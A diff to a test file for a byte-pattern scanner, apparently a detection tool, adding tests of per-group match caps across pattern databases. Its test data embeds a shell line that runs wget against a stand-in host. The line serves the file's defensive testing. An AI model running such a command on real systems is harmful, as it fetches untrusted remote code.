@@ -24,12 +24,35 @@ def test_cap_per_pattern():
 def test_patterns_in_databases_of_their_own_match_as_in_one():
     from veracity.checks import registry
 
-    shared = [replace(p, database=0) for p in registry.patterns().patterns]
+    ungrouped = [replace(p, cap_group="") for p in registry.patterns().patterns]  # no group stops early
+    shared = [replace(p, database=0) for p in ungrouped]
     assert any(p.database for p in registry.patterns().patterns)  # the egress patterns use it
     data = (b"see https://update.vendor.example/fw.bin or mail ops@vendor.example, 203.0.113.9 and fe80::1; "
             b"/bin/sh -c 'wget http://x.example.cn/a' " + b"h\x00t\x00t\x00p\x00:\x00/\x00/\x00") * 40
-    assert registry.patterns().scan(data) == PatternSet(shared).scan(data)
+    assert PatternSet(ungrouped).scan(data) == PatternSet(shared).scan(data)
     assert len(PatternSet([Pattern("A/x", b"abc"), Pattern("B/y", b"bcd", database=3)]).scan(b"abcd")[0]) == 2
+
+
+def test_a_cap_group_stops_collecting_once_one_of_it_is_capped():
+    group = [Pattern("G/a", b"aa", database=1, cap_group="G/"), Pattern("G/b", b"bb", database=1, cap_group="G/"),
+             Pattern("G/c", b"cc", database=2, cap_group="G/")]
+    others = [Pattern("O/run", b"run", first_only=True, database=2), Pattern("O/x", b"xx")]
+    data = b"aa " * (MAX_PER_PATTERN + 5) + b"bb cc run xx"
+    matches, capped = PatternSet(group + others).scan(data)
+    got = [m[0] for m in matches]
+    # database 1 (the group alone) stopped at the cap: no "bb" after it; database 2 holds "O/run" too, so it is
+    # scanned whole (what it finds of the group does no harm: the check reads the file itself)
+    assert got.count("G/a") == MAX_PER_PATTERN and "G/b" not in got and capped == ("G/a",)
+    assert "O/run" in got and "O/x" in got
+    # without the cap, nothing changes
+    assert {m[0] for m in PatternSet(group + others).scan(b"aa bb cc run xx")[0]} == {"G/a", "G/b", "G/c", "O/run", "O/x"}
+    # a database holding the group alone, after it is closed, is not scanned at all
+    alone = [Pattern("G/a", b"aa", database=1, cap_group="G/"), Pattern("G/c", b"cc", database=2, cap_group="G/")]
+    matches, capped = PatternSet(alone).scan(b"aa " * (MAX_PER_PATTERN + 1) + b"cc")
+    assert [m[0] for m in matches] == ["G/a"] * MAX_PER_PATTERN and capped == ("G/a",)
+    # patterns without a group are capped one by one, as before
+    matches, capped = PatternSet([Pattern("X/a", b"aa"), Pattern("X/b", b"bb")]).scan(b"aa " * 40 + b"bb")
+    assert [m[0] for m in matches].count("X/b") == 1 and capped == ("X/a",)
 
 
 def test_duplicate_ids_rejected():
